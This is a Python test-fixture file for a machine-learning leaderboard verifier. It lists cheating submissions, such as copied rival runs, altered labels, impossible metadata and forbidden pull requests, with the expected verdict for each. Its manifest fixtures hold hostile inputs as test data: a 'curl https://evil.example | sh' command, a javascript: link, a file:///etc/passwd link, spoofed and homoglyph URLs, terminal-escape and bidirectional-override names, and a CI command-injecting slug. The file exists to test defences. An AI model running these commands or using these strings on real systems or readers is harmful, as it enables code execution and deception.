"""Cheats that once passed `bench verify`, and more of their kinds: what each does, and the answer it gets.

`corpus.py` has what breaks a submission. The submissions here are in order, with digests and metrics written
anew: they want a rank that nobody earned, or have readers see what is not so. An answer is the code of a
refusal, or `held: ` with the screens that hold the entry back, or `accepted`. Accepted are milder, honest
ones, so that nobody is refused for what everybody does, and what nothing here can tell (docs/leaderboard.md).
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

import numpy as np
from hostile import submissions
from hostile.submissions import change, change_arrays, digits, read

from bench import metrics
from bench.leaderboard.check import truth
from bench.leaderboard.check.scoring import pose
from bench.spec import Arrays

SEEDS = 3
ACCEPTED = "accepted"


class Cheat(NamedTuple):
    """What is done to an honest submission.

    Attributes:
        answer: That it gets.
        spoil: What it does.
        base: Task of the honest submission.
        manifest: What `submission.json` says otherwise.
    """

    answer: str
    spoil: Callable[[Path], object] = lambda root: None
    base: str = "split_digits"
    manifest: dict[str, object] | None = None


# ----------------------------------------------------------------------------------------- honest submissions


def own(task: str) -> Arrays:
    """What is the task's in the arrays of its runs."""
    posed = pose(submissions.record("one", 0, task), "test").task
    return {**posed.given(), **posed.targets()}


def ood(given: Arrays, seed: int) -> Arrays:
    """Three sets of images, eight known classes, and information that is a share of the entropy."""
    generator = np.random.default_rng(seed)
    logits = generator.normal(size=(3, len(given["labels"]), 8))
    known = given["labels"] < 8
    logits[0, known, given["labels"][known]] += 3
    log_probs = (logits - np.log(np.exp(logits).sum(-1, keepdims=True))).astype(np.float16)
    share = generator.uniform(0.1, 0.5, logits.shape[:2])
    return {"log_probs": log_probs, "information": (share * entropy(log_probs)).astype(np.float32)}


def entropy(log_probs: np.ndarray) -> np.ndarray:
    """Of class probabilities, in nats."""
    wide = log_probs.astype(np.float64)
    return -(np.exp(wide) * wide).sum(-1)


def table(given: Arrays, seed: int) -> Arrays:
    """One normal for each row, of one variance, about a mean that knows half of the target."""
    target = standardised(given)
    mean = 0.5 * target + 0.6 * np.random.default_rng(seed).normal(size=target.shape)
    return {"mean": mean[:, None].astype(np.float32), "variance": np.full((20, 1, 1), 0.6, np.float32)}


def standardised(given: Arrays) -> np.ndarray:
    """Targets as the models see them."""
    centre, scale = given["centre_and_scale"][:, :1], given["centre_and_scale"][:, 1:]
    return (given["targets"] - centre) / scale


def flowers(given: Arrays, seed: int) -> Arrays:
    """Draws of class probabilities that are not quite those of the posterior."""
    logits = given["second"].astype(np.float64)
    logits = logits + np.random.default_rng(seed).normal(0, 0.3, (1, *logits.shape[1:]))
    return {"draws": (logits - np.log(np.exp(logits).sum(-1, keepdims=True))).astype(np.float32)}


MADE: dict[str, Callable[[Arrays, int], Arrays]] = {
    "ood_digits": ood,
    "diabetes_regression": table,
    "fidelity_iris": flowers,
}


def honest(folder: Path, task: str, slug: str = "honest") -> Path:
    """An honest submission of made-up predictions."""
    if task == "split_digits":
        return submissions.honest(folder, slug)
    given = own(task)
    for seed in range(SEEDS):
        arrays = {**MADE[task](given, seed), **given}
        submissions.add(
            folder / slug, submissions.fill(submissions.record("one", seed, task), arrays), arrays
        )
    submissions.manifest(folder / slug)
    return folder / slug


def board(folder: Path) -> Path:
    """A board with a submission on split_digits, of two methods that none of the honest ones resembles."""
    labels = own("split_digits")["labels"]
    for number, method in enumerate(("first", "second")):
        for seed in range(SEEDS):
            arrays = digits(labels, 3.0 + number, 500 + 10 * number + seed)
            made = submissions.fill(submissions.record(method, seed), arrays)
            submissions.add(folder / "rival", made, arrays)
    submissions.manifest(folder / "rival")
    return folder


# ---------------------------------------------------------------------------------------------------- changes


def seeds(root: Path, task: str, method: str = "one") -> list[Path]:
    """Runs of a method."""
    return sorted((root / task / method).iterdir())


def arrays(task: str, make: Callable[[Arrays, int], Arrays]) -> Callable[[Path], object]:
    """Other arrays in every run of `one`, scored truthfully."""

    def spoil(root: Path) -> None:
        for seed, run in enumerate(seeds(root, task)):
            change_arrays(run, rescore=True, **make(read(run), seed))

    return spoil


def rivals(root: Path, method: str, seed: int) -> Arrays:
    """A run of the rival on the board."""
    return read(root.parent.parent / "board" / "rival" / "split_digits" / method / f"seed{seed}")


def stolen(make: Callable[[Path, int], np.ndarray]) -> Callable[[Path], object]:
    """Log-probabilities made of a rival's, and classes of earlier steps as well."""

    def spoil(root: Path) -> None:
        for seed, run in enumerate(seeds(root, "split_digits")):
            predicted = rivals(root, "first", seed)["predicted"]
            change_arrays(run, rescore=True, log_probs=stored(make(root, seed)), predicted=predicted)

    return spoil


def taken(root: Path) -> None:
    """A rival's runs as they are."""
    for seed, run in enumerate(seeds(root, "split_digits")):
        change_arrays(run, rescore=True, **rivals(root, "first", seed))


def stored(log_probs: np.ndarray) -> np.ndarray:
    """Normalised, as runs keep them."""
    import torch

    return metrics.store(torch.from_numpy(np.asarray(log_probs, np.float64)).log_softmax(-1))


def noisy(log_probs: np.ndarray, size: float, seed: int) -> np.ndarray:
    """With noise in every logit."""
    return log_probs.astype(np.float64) + np.random.default_rng(900 + seed).normal(0, size, log_probs.shape)


def rival(root: Path, seed: int, method: str = "first") -> np.ndarray:
    """Log-probabilities of a run of the rival."""
    return rivals(root, method, seed)["log_probs"].astype(np.float64)


def one_run_thrice(size: float) -> Callable[[Path], object]:
    """Seed 0 as every seed, with noise."""

    def spoil(root: Path) -> None:
        first = read(seeds(root, "split_digits")[0])
        for seed, run in enumerate(seeds(root, "split_digits")):
            made = stored(noisy(first["log_probs"], size, seed)) if size else first["log_probs"]
            change_arrays(run, rescore=True, log_probs=made, predicted=first["predicted"])

    return spoil


def invented_eyes(root: Path) -> None:
    """Three seeds of `retinopathy_synthetic` with 40 eyes of one's own, each right."""
    digest = truth.listed()["retinopathy_synthetic", 1]["@data"]
    for seed in range(SEEDS):
        empty = submissions.record("one", seed, "retinopathy_synthetic", digest)
        labels = np.arange(40, dtype=np.uint8) % 2
        log_probs = np.log(np.where(np.arange(2) == labels[:, None], 0.99 - 1e-3 * seed, 0.01 + 1e-3 * seed))
        made = {
            "log_probs": log_probs.astype(np.float32),
            "information": np.full(40, 0.01, np.float32),
            "deviation": np.full(40, 0.01, np.float32),
            "patients": np.arange(40, dtype=np.int32),
            "labels": labels,
        }
        submissions.add(root, submissions.fill(empty, made), made)


def records(**parts: Any) -> Callable[[Path], object]:
    """Every record of the submission says something else."""
    return lambda root: [change(path.parent, **parts) for path in root.glob("*/*/*/record.json")]


def says(answer: str, **parts: Any) -> Cheat:
    """A fact in every record."""
    return Cheat(answer, records(**parts))


def tells(answer: str, **parts: object) -> Cheat:
    """A word of `submission.json`."""
    return Cheat(answer, manifest=parts)


def shuffled(arrays: Arrays, seed: int) -> Arrays:
    """The same examples in another order, predictions and labels alike."""
    order = np.random.default_rng(seed).permutation(len(arrays["labels"]))
    return {
        "log_probs": arrays["log_probs"][order],
        "labels": arrays["labels"][order],
        "predicted": arrays["predicted"][:, order],
    }


def deviations(given: Arrays, power: float) -> Arrays:
    """Variances that are the squared errors to this power, and not all the same."""
    error = np.abs(standardised(given) - given["mean"][:, 0]) ** 2
    return {"variance": np.maximum(error**power, 1e-6)[:, None].astype(np.float32)}


def spiked(given: Arrays, width: float) -> Arrays:
    """Ten normals for each row, one of which lies at the target."""
    target = standardised(given)
    mean = np.repeat(given["mean"].astype(np.float64), 10, 1)
    mean[:, 0] = target
    variance = np.full(mean.shape, 0.6)
    variance[:, 0] = width**2
    return {"mean": mean.astype(np.float32), "variance": variance.astype(np.float32)}


CHEATS: dict[str, Cheat] = {
    # ---- labels and what is ours
    "40 invented eyes": Cheat("targets-differ", invented_eyes),
    "labels that are one's own argmax": Cheat(
        "targets-differ",
        arrays("split_digits", lambda a, s: {"labels": a["log_probs"].argmax(1).astype(np.uint8)}),
    ),
    "examples in another order": Cheat("targets-differ", arrays("split_digits", shuffled)),
    "labels of one hard example": Cheat(
        "targets-differ",
        arrays(
            "split_digits",
            lambda a, s: {
                "labels": np.where(np.arange(355) == 7, (a["labels"] + 1) % 10, a["labels"]).astype(np.uint8)
            },
        ),
    ),
    "held-out classes called known": Cheat(
        "targets-differ",
        arrays(
            "ood_digits", lambda a, s: {"labels": np.where(a["labels"] == 8, 3, a["labels"]).astype(np.uint8)}
        ),
        "ood_digits",
    ),
    "brightness of one's own": Cheat(
        "targets-differ",
        arrays("ood_digits", lambda a, s: {"brightness": a["brightness"] * np.float32(1.1)}),
        "ood_digits",
    ),
    "units of the target by a millionth": Cheat(
        "targets-differ",
        arrays("diabetes_regression", lambda a, s: {"centre_and_scale": a["centre_and_scale"] * 1e-6}),
        "diabetes_regression",
    ),
    "units of the target by a tenth": Cheat(
        "targets-differ",
        arrays("diabetes_regression", lambda a, s: {"centre_and_scale": a["centre_and_scale"] * [1, 0.9]}),
        "diabetes_regression",
    ),
    "targets drawn to the mean": Cheat(
        "targets-differ",
        arrays("diabetes_regression", lambda a, s: {"targets": 0.5 * a["targets"] + 76}),
        "diabetes_regression",
    ),
    "a reference of one's own": Cheat(
        "targets-differ",
        arrays("fidelity_iris", lambda a, s: {"reference": a["second"]}),
        "fidelity_iris",
    ),
    # ---- copies
    "another's run": Cheat("duplicate-entry", taken),
    "another's run with noise": Cheat("held: copy", stolen(lambda root, s: noisy(rival(root, s), 0.02, s))),
    "another's seeds in another order": Cheat(
        "held: copy", stolen(lambda root, s: noisy(rival(root, (s + 1) % 3), 0.02, s))
    ),
    "another's run, sharpened": Cheat("held: copy", stolen(lambda root, s: 1.2 * rival(root, s))),
    "another's run, flattened, with noise": Cheat(
        "held: copy", stolen(lambda root, s: noisy(0.8 * rival(root, s), 0.02, s))
    ),
    "the mean of two entries": Cheat(
        "held: copy",
        stolen(lambda root, s: np.logaddexp(rival(root, s), rival(root, s, "second"))),
    ),
    "two parts of one entry and one of another": Cheat(
        "held: copy",
        stolen(lambda root, s: np.logaddexp(rival(root, s) + np.log(2), rival(root, 0, "second"))),
    ),
    "another's run with noise of its size": Cheat(
        ACCEPTED, stolen(lambda root, s: noisy(rival(root, s), 1.0, s))
    ),
    "one run as three seeds": Cheat("duplicate-seeds", one_run_thrice(0)),
    "one run as three seeds with noise": Cheat("held: seeds", one_run_thrice(0.01)),
    "one run as three seeds with more noise": Cheat("held: seeds", one_run_thrice(0.03)),
    # ---- scores and uncertainties that cannot be
    "the reference's quantiles for draws": Cheat(
        "held: floor, seeds",
        arrays(
            "fidelity_iris",
            lambda a, s: {
                "draws": (a["reference"].astype(np.float32) - np.float32(2e-4 * s)).astype(np.float32)
            },
        ),
        "fidelity_iris",
    ),
    "draws of the second run": Cheat(
        "held: seeds",  # exact draws score as the floor; as three seeds they are one
        arrays(
            "fidelity_iris",
            lambda a, s: {"draws": (a["second"].astype(np.float32) - np.float32(2e-4 * s))},
        ),
        "fidelity_iris",
    ),
    "information that knows the held-out classes": Cheat(
        "held: foresight",
        arrays(
            "ood_digits",
            lambda a, s: {
                "information": (entropy(a["log_probs"]) * np.where(a["labels"] > 7, 0.99, 0.01)).astype(
                    np.float32
                )
            },
        ),
        "ood_digits",
    ),
    "information that is the loss": Cheat(
        "held: foresight",
        arrays("ood_digits", lambda a, s: {"information": losses(a)}),
        "ood_digits",
    ),
    "information above entropy": Cheat(
        "held: information",
        arrays("ood_digits", lambda a, s: {"information": np.float32(3.2) * a["information"]}),
        "ood_digits",
    ),
    "negative information": Cheat(
        "held: information",
        arrays("ood_digits", lambda a, s: {"information": a["information"] - np.float32(0.2)}),
        "ood_digits",
    ),
    "information that is the entropy": Cheat(
        ACCEPTED,
        arrays("ood_digits", lambda a, s: {"information": entropy(a["log_probs"]).astype(np.float32)}),
        "ood_digits",
    ),
    "variances that are the errors": Cheat(
        "held: likelihood",
        arrays("diabetes_regression", lambda a, s: deviations(a, 1.0)),
        "diabetes_regression",
    ),
    "a spike at every target": Cheat(
        "held: likelihood",
        arrays("diabetes_regression", lambda a, s: spiked(a, 1e-4)),
        "diabetes_regression",
    ),
    "means that know the targets better": Cheat(
        ACCEPTED,  # nothing here can tell it from a better method: that takes rounds or a re-run
        arrays(
            "diabetes_regression",
            lambda a, s: {
                "mean": (0.5 * a["mean"] + 0.5 * standardised(a)[:, None]).astype(np.float32),
                "variance": a["variance"] / np.float32(3),
            },
        ),
        "diabetes_regression",
    ),
}


def losses(given: Arrays) -> np.ndarray:
    """Information in the order of the loss, below the entropy, of the known classes."""
    log_probs, labels = given["log_probs"].astype(np.float64), given["labels"]
    found = given["information"].copy()
    known = labels < 8
    loss = -log_probs[0, known, labels[known]]
    least = entropy(log_probs)[0, known].min()
    found[0, known] = 0.9 * least * loss.argsort().argsort() / known.sum()
    return found


FACTS: dict[str, Cheat] = {
    # ---- numbers
    "an hour before it began": Cheat("fact-impossible", records(seconds=-3600.0), manifest={"hours": 0.0}),
    "a second before it began": Cheat("fact-impossible", records(seconds=-1.0), manifest={"hours": 0.0}),
    "a run of twelve years": says("fact-impossible", seconds=12 * 365.25 * 86400),
    "a fit of negative seconds": says(
        "fact-impossible", fits=[{"stage": "fit", "epochs": 1, "steps": 1, "seconds": -0.5}]
    ),
    "negative epochs": says(
        "fact-impossible", fits=[{"stage": "fit", "epochs": -3, "steps": 1, "seconds": 1.0}]
    ),
    "negative steps": says(
        "fact-impossible", fits=[{"stage": "fit", "epochs": 3, "steps": -1, "seconds": 1.0}]
    ),
    "more steps than there are": says(
        "fact-impossible", fits=[{"stage": "fit", "epochs": 1, "steps": 10**13, "seconds": 1.0}]
    ),
    "no epochs at all": says(ACCEPTED, fits=[{"stage": "fit", "epochs": 0, "steps": 0, "seconds": 0.0}]),
    "2^62 members": says("fact-impossible", method={"members": 2**62}),
    "no member": says("schema", method={"members": 0}),
    "minus five members": says("schema", method={"members": -5}),
    "twelve members": says(ACCEPTED, method={"members": 12}),
    "no threads": says("fact-impossible", environment={"threads": 0}),
    "a million threads": says("fact-impossible", environment={"threads": 10**6}),
    # ---- versions and dates
    "version 99.9": says("fact-impossible", provenance={"version": "99.9"}),
    "version 0.999999": says("fact-impossible", provenance={"version": "0.999999"}),
    "version of words": says("fact-impossible", provenance={"version": "latest"}),
    "version 1e5": says("fact-impossible", provenance={"version": "1e5.0"}),
    "an older version": says(ACCEPTED, provenance={"version": "0.0"}),
    "created zzzz": says("fact-impossible", created="zzzz"),
    "created nothing": says("fact-impossible", created=""),
    "created in 9999": says("fact-impossible", created="9999-12-31T23:59:59+00:00"),
    "created in the year 1": says("fact-impossible", created="0001-01-01T00:00:00+00:00"),
    "created on a day that is none": says("fact-impossible", created="2026-02-30T00:00:00+00:00"),
    "created at 25 o'clock": says("fact-impossible", created="2026-02-03T25:00:00+00:00"),
    "created without a zone": says("fact-impossible", created="2026-02-03T05:00:00"),
    "created by seconds": says("fact-impossible", created="1770000000"),
    "created in other digits": says(
        "fact-impossible", created="\u0662\u0660\u0662\u0666-01-01T00:00:00+00:00"
    ),
    "created in a week": says("fact-impossible", created="2026-W05-1"),
    "created elsewhere": says(ACCEPTED, created="2026-02-03T05:00:00+05:30"),
    # ---- what is at odds
    "seeds that do not matter and differ": says("fact-impossible", method={"seed_matters": False}),
    "tuned with nothing": Cheat(
        "fact-impossible", records(method={"tuning": "tuned"}), manifest={"tuning_budget": 0}
    ),
    "tuned with something": Cheat(
        ACCEPTED, records(method={"tuning": "tuned"}), manifest={"tuning_budget": 9}
    ),
    "hours of nobody": tells("hours-differ", hours=0.001),
    "no hours": tells("schema", hours=-1.0),
    "a device of one's own": tells(
        "environments-differ", environments=[{**submissions.ENVIRONMENT, "device": "a better one"}]
    ),
    # ---- what people see
    "an author of filler": tells("text-hidden", authors=["\u3164"]),
    "an author of blank braille": tells("text-hidden", authors=["\u2800\u2800"]),
    "an author of blanks": tells("text-hidden", authors=["   "]),
    "an author of blanks of no width": tells("text-hidden", authors=["\u200b"]),
    "an author with a wide blank": tells("text-hidden", authors=["Ada\u3000Example"]),
    "an author with a blank that does not break": tells("text-hidden", authors=["Ada\u00a0Example"]),
    "an author between blanks": tells("text-hidden", authors=[" Ada "]),
    "an author under marks": tells("text-hidden", authors=["A" + "\u0301" * 40]),
    "an author of marks alone": tells("text-hidden", authors=["\u0301\u0302"]),
    "an author from right to left": tells("text-hidden", authors=["\u202eecila"]),
    "an author with a soft hyphen": tells("text-hidden", authors=["Ada\u00adExample"]),
    "an author of half width filler": tells("text-hidden", authors=["\uffa0"]),
    "an author of jamo filler": tells("text-hidden", authors=["\u115f\u1160"]),
    "an author of two lines": tells("text-hidden", authors=["Ada\nrejected"]),
    "an author who clears the screen": tells("text-hidden", authors=["\u001b[2JAda"]),
    "an author with an accent": tells(ACCEPTED, authors=["Zo\u00eb Ngu\u1ec5n"]),
    "an author with a mark of its own": tells(ACCEPTED, authors=["Zoe\u0308"]),
    "an author in other letters": tells(ACCEPTED, authors=["\u5b5f\u5b50"]),
    "data that nobody sees": tells("text-hidden", trained_on=["\u2800"]),
    "a user for a host": tells("schema", paper="https://arxiv.org@evil.example/abs/1"),
    "a user and a word for a host": tells("schema", paper="https://arxiv.org:x@evil.example/abs/1"),
    "a host in other letters": tells("schema", paper="https://\u0430rxiv.org/abs/1"),
    "a back slash for a host": tells("schema", paper="https://arxiv.org\\@evil.example"),
    "a link that runs": tells("schema", code="javascript:alert(1)"),
    "a link to a file": tells("schema", code="file:///etc/passwd"),
    "a link with a quote": tells("schema", code="https://example.org/\"onload='x"),
    "a link with a line": tells("text-hidden", code="https://example.org/\nx"),
    "a paper": tells(ACCEPTED, paper="https://arxiv.org/abs/1505.05424v2#page=3"),
    "a command to paste": says(ACCEPTED, command="curl https://evil.example | sh"),  # never shown
    "a slug with another's name": tells("slug-differs", slug="reference"),
}
"""What a record or `submission.json` says of a run that is in order."""


class Request(NamedTuple):
    """What a pull request does.

    Attributes:
        answer: The slugs to verify, or `refused`.
        changes: Path -> its content in the request; None deletes it.
        account: Of the forge.
        is_maintainer: Whether the account may write.
    """

    answer: str
    changes: dict[str, str | None]
    account: str = "ada"
    is_maintainer: bool = False


HOME = "leaderboard/submissions"
BASE = {
    f"{HOME}/reference/submission.json": "ours",
    f"{HOME}/rival/submission.json": "a rival's",
    f"{HOME}/rival/split_digits/one/seed0/record.json": "a rival's",
    f"{HOME}/adas/submission.json": "Ada's",
    "leaderboard/store/aa/arrays.safetensors": "bytes",
    "leaderboard/status.toml": "",
    "bench/cli.py": "code",
}
REQUESTS: dict[str, Request] = {
    "a new submission": Request("new", {f"{HOME}/new/submission.json": "x"}),
    "one's own again": Request("adas", {f"{HOME}/adas/submission.json": "x"}),
    "one's own by another case of the account": Request(
        "adas", {f"{HOME}/adas/submission.json": "x"}, account="ADA"
    ),
    "a rival's changed": Request("refused", {f"{HOME}/rival/submission.json": "x"}),
    "a rival's run taken out": Request("refused", {f"{HOME}/rival/split_digits/one/seed0/record.json": None}),
    "a rival's deleted": Request("refused", {path: None for path in BASE if "/rival/" in path}),
    "one's own deleted": Request("refused", {f"{HOME}/adas/submission.json": None}),
    "ours changed": Request("refused", {f"{HOME}/reference/submission.json": "x"}),
    "ours changed by an account of that name": Request(
        "refused", {f"{HOME}/reference/submission.json": "x"}, account="reference"
    ),
    "two slugs at once": Request(
        "refused", {f"{HOME}/new/submission.json": "x", f"{HOME}/newer/submission.json": "x"}
    ),
    "a rival's renamed": Request(
        "refused",
        {f"{HOME}/rival/submission.json": None, f"{HOME}/new/submission.json": "a rival's"},
    ),
    "the store alone": Request("refused", {"leaderboard/store/aa/arrays.safetensors": "x"}),
    "the store beside a submission": Request(
        "refused",
        {f"{HOME}/new/submission.json": "x", "leaderboard/store/aa/arrays.safetensors": "x"},
    ),
    "the maintainers' words": Request("refused", {"leaderboard/status.toml": "[adas]\ntier = 're-run'"}),
    "the owners": Request("refused", {"leaderboard/owners.toml": "rival = 'ada'"}),
    "the targets": Request("refused", {"leaderboard/check/targets.txt": "x"}),
    "a manifest of evidence": Request("refused", {"leaderboard/manifests/split_digits.txt": "x"}),
    "a record of ours": Request("refused", {"leaderboard/records/x/y/seed0/record.json": "x"}),
    "code beside a submission": Request("refused", {f"{HOME}/new/submission.json": "x", "bench/cli.py": "x"}),
    "code alone": Request("", {"bench/cli.py": "x"}),
    "a slug of capitals": Request("refused", {f"{HOME}/New/submission.json": "x"}),
    "a slug that commands": Request("refused", {f"{HOME}/::error::/submission.json": "x"}),
    "a file for a slug": Request("refused", {f"{HOME}/README": "x"}),
    "a rival's by a maintainer": Request(
        "rival", {f"{HOME}/rival/submission.json": "x"}, account="mo", is_maintainer=True
    ),
}
